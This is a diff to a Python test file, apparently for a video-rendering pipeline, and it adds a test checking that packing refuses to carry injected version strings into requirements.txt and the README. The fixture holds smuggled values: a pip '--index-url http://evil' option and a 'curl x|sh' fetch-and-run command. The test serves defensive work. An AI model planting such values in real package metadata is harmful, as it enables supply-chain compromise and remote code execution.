@@ -13,6 +13,12 @@ from PIL import Image
 
 import framefleet
 from framefleet.pipeline.errors import InputError, JobError
+from framefleet.pipeline.guards.json_text import canonical_json, parse_json
+from framefleet.pipeline.outputs.layout import RECORDS
+from framefleet.pipeline.outputs.parts.parts import PartWriter
+from framefleet.pipeline.outputs.parts.record_tables import record_schema_of, record_tables
+from framefleet.pipeline.outputs.parts.seals import live_parts, new_run
+from framefleet.pipeline.outputs.stores.store import Store
 from tests.commands import command
 from tests.driven import render_driven
 from tests.jobs import job_values, prompt_rows, records_of, write_table
@@ -108,3 +114,23 @@ def test_what_cannot_be_packed_is_refused(tmp_path: Path) -> None:
     clip.write_bytes(clip.read_bytes()[::-1])
     with pytest.raises(JobError, match="is not as its record says: it has other bytes"):
         framefleet.pack(out, pack)
+    assert not pack.exists()
+
+
+def test_what_a_record_calls_a_version_is_no_option_of_pip_and_no_command(tmp_path: Path) -> None:
+    values = job_values(write_table(tmp_path / "t.parquet", prompt_rows(1)), tmp_path / "out")
+    render_driven(values)
+    hostile = {"framefleet": "0.1.0\n--index-url http://evil", "python": "3; curl x|sh #", "torch": 5}
+    store = Store(str(tmp_path / "out"))
+    (part,) = live_parts(store)
+    ((record,),) = (table.to_pylist() for table in record_tables(store, None, [part]))
+    environment = canonical_json(parse_json(record["environment"]) | hostile)
+    writer = PartWriter(store, RECORDS, record_schema_of(store), run=new_run(9))
+    writer.add(None, record | {"environment": environment})
+    writer.flush()
+    store.delete(part.path)
+    framefleet.pack(tmp_path / "out", tmp_path / "pack")
+    pinned, page = ((tmp_path / "pack" / name).read_text() for name in ("requirements.txt", "README.md"))
+    assert "diffusers==" in pinned
+    assert not [word for word in ("evil", "framefleet", "torch=") if word in pinned]
+    assert "python3 -m venv" in page and "curl" not in page
